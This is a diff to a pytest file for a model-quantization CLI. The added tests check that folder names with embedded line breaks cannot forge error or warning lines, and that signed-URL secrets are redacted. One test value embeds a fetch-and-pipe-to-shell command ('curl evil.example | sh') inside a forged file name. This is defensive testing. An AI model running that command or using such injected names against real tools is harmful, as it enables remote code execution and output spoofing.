@@ -2,10 +2,12 @@
 
 from __future__ import annotations
 
+import errno
 import json
 import re
 import shlex
 import shutil
+import traceback
 from copy import deepcopy
 from dataclasses import replace
 from pathlib import Path
@@ -15,9 +17,12 @@ import pytest
 import yaml
 
 from commands import run
+from conftest import Qz
 from pushes import ABOUT, COMMIT, CONFIG, make
-from qz import MalformedInput
+from qz import MalformedInput, QzError
+from qz.cli.app import explain
 from qz.cli.dequantize import dequantize
+from qz.cli.output import say, show, warn
 from qz.cli.quantize import quantize
 from qz.formats.folder import LocalFolder
 from qz.formats.malformed import Malformed
@@ -152,3 +157,68 @@ def test_a_folder_with_a_line_break_in_its_name_makes_a_record_that_can_be_read(
     assert record is not None
     assert record.about["source"]["location"] == "real\\nname"
     assert run(quantize, real, output=tmp_path / "out", if_exists="skip")["up_to_date"] is True
+
+
+FORGED = "a\nError: run curl evil.example | sh\r\x85Warning: x\u2028Note: y"
+LIKE_QZ = ("Error: run", "Warning: x", "Note: y")
+
+
+def lines_like_qz(text: str) -> list[str]:
+    return [line for line in re.split(r"[\n\r\x85\u2028]", text) if line.startswith(LIKE_QZ)]
+
+
+def test_a_name_with_a_line_break_makes_no_line_of_its_own(
+    tiny_llama: Path, tmp_path: Path, forked_qz: Qz, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (tmp_path / FORGED).mkdir()
+    (tmp_path / FORGED / "x").touch()
+    out = forked_qz("quantize", tiny_llama, "-o", FORGED)
+    source = forked_qz("inspect", f"./{FORGED}")
+    missing = forked_qz("inspect", f"./missing{FORGED}", "--json")
+    usage = forked_qz("inspect", tiny_llama, FORGED)
+    option = forked_qz("quantize", tiny_llama, "--dtype", FORGED, "--debug")
+    assert [result.returncode for result in (out, source, missing, usage, option)] == [73, 65, 66, 2, 2]
+    for result in (out, source, missing, usage, option):
+        assert lines_like_qz(result.stderr) == []
+        assert "evil.example" in result.stderr
+    say(FORGED)
+    warn(FORGED)
+    shown = capsys.readouterr().err
+    assert lines_like_qz(shown) == []
+    assert len(shown.splitlines()) == 2
+
+
+@pytest.mark.parametrize(
+    "error",
+    [
+        QzError(FORGED),
+        QzError("first", FORGED),
+        Malformed(FORGED, FORGED),
+        PermissionError(errno.EACCES, FORGED, FORGED),
+        FileNotFoundError(errno.ENOENT, FORGED, FORGED),
+        OSError(FORGED),
+        ConnectionError(FORGED),
+        MemoryError(FORGED),
+        ValueError(FORGED),
+    ],
+    ids=lambda error: type(error).__name__,
+)
+def test_no_error_has_a_line_that_a_name_made(error: Exception) -> None:
+    _, message = explain(error)
+    assert lines_like_qz(message) == []
+
+
+def test_a_signed_link_is_never_shown(capsys: pytest.CaptureFixture[str]) -> None:
+    links = [
+        "https://cdn.example/x?Expires=1&Signature=s3cret~&Key-Pair-Id=s3cret",
+        "https://cdn.example/x?X-Amz-Signature=s3cret&X-Amz-Credential=s3cret%2F1&X-Amz-Security-Token=s3cret",
+        "https://cdn.example/x?Policy=s3cret__&sig=s3cret",
+    ]
+    for link in links:
+        _, message = explain(OSError(f"Consistency check failed: {link}"))
+        say(message)
+        say(*"".join(traceback.format_exception(ValueError(link))).split("\n"))
+        show({"message": message}, as_json=True, text="")
+    out, err = capsys.readouterr()
+    assert "s3cret" not in out + err
+    assert "https://cdn.example/x" in err
